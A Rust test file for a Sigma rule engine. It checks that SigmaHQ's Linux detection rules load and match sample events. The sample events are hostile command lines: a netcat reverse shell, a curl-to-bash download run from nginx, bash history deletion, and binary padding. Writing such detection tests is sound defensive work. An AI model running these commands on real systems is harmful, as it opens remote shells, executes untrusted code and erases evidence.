//! SigmaHQ's rules for Linux load as they are. They are not part of this project: the test reads
//! them where they lie beside the repository, and says so when they do not.

use std::{collections::BTreeMap, fs, path::Path};

use expect_test::expect;
use serde_json::Value as Json;

use super::{Engine, Source, naive, parse};

/// Beside the repository, wherever that is.
const FOLDER: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/sigma-linux/rules");

fn gather(dir: &Path, files: &mut Vec<(String, String)>) {
    for entry in fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            gather(&path, files);
        } else if path.extension().is_some_and(|it| it == "yml") {
            let name = path.strip_prefix(FOLDER).unwrap().display().to_string();
            files.push((name, fs::read_to_string(&path).unwrap()));
        }
    }
}

fn texts() -> Option<Vec<(String, String)>> {
    let folder = Path::new(FOLDER);
    if !folder.try_exists().unwrap() {
        println!("skipped: no SigmaHQ rules in ../shared/sigma-linux");
        return None;
    }
    let mut files = Vec::new();
    gather(folder, &mut files);
    files.sort();
    Some(files)
}

fn engine(files: &[(String, String)]) -> Engine {
    Engine::new(files.iter().map(|(file, text)| (file.as_str(), text.as_str())))
}

#[test]
fn sigmahqs_linux_rules_load_as_they_are() {
    let Some(files) = texts() else { return };
    let engine = engine(&files);
    let problems = engine.problems().iter().map(|it| format!("{}: {}\n", it.file, it.error));
    expect![[""]].assert_eq(&problems.collect::<String>());
    assert_eq!(engine.rules().count(), 210);
}

#[test]
fn sigmahqs_linux_rules_match_events_as_they_should() {
    let Some(files) = texts() else { return };
    let engine = engine(&files);
    let find = |source, event: &str| {
        let event: BTreeMap<String, Json> = serde_saphyr::from_str(event).unwrap();
        let mut titles: Vec<_> =
            engine.matches(source, &event).map(|it| it.title.clone()).collect();
        titles.sort();
        titles.join("; ")
    };
    let said = [
        find(
            Source::ProcessCreation,
            "{Image: /usr/bin/nc, CommandLine: nc -e /bin/sh 10.0.0.1 4444}",
        ),
        find(Source::ProcessCreation, "{Image: /usr/bin/crontab, CommandLine: crontab -l}"),
        find(Source::ProcessCreation, "{Image: /usr/bin/true, CommandLine: 'true'}"),
        find(Source::FileEvent, "{Image: /bin/sh, TargetFilename: /etc/cron.d/x}"),
        find(Source::Auditd, "{type: EXECVE, a0: truncate, a1: '-s', a2: '+5M'}"),
        find(Source::Sshd, "{message: 'error in libcrypto'}"),
    ];
    expect![[r#"
        Linux Network Service Scanning Tools Execution; Potential Netcat Reverse Shell Execution
        Crontab Enumeration

        New Cron File Created
        Binary Padding - Linux
        Suspicious OpenSSH Daemon Error"#]]
    .assert_eq(&said.join("\n"));
}

#[test]
fn compiled_together_they_match_what_each_of_them_alone_would() {
    let Some(files) = texts() else { return };
    let engine = engine(&files);
    let events = [
        "{Image: /usr/bin/nc, CommandLine: nc -e /bin/sh 10.0.0.1 4444}",
        "{Image: /usr/bin/curl, CommandLine: 'curl http://x/y.sh | bash', ParentImage: /usr/sbin/nginx}",
        "{Image: /bin/sh, TargetFilename: /etc/cron.d/x, DestinationIp: 10.0.0.1, Initiated: 'true'}",
        "{type: EXECVE, a0: truncate, a1: '-s', a2: '+5M', SYSCALL: connect, name: /etc/passwd}",
        "{message: 'error in libcrypto', CommandLine: 'rm -f ~/.bash_history'}",
    ];
    for event in events {
        let event: BTreeMap<String, Json> = serde_saphyr::from_str(event).unwrap();
        let mut together: Vec<_> = Source::ALL
            .iter()
            .flat_map(|source| engine.matches(*source, &event).map(|it| it.id.clone()))
            .collect();
        let mut alone: Vec<_> = files
            .iter()
            .map(|(_, text)| parse::rule(text).unwrap())
            .filter(|rule| naive::holds(&rule.condition, &event))
            .map(|rule| rule.summary.id)
            .collect();
        together.sort();
        alone.sort();
        assert_eq!(together, alone, "{event:?}");
        assert!(!alone.is_empty(), "{event:?}");
    }
}
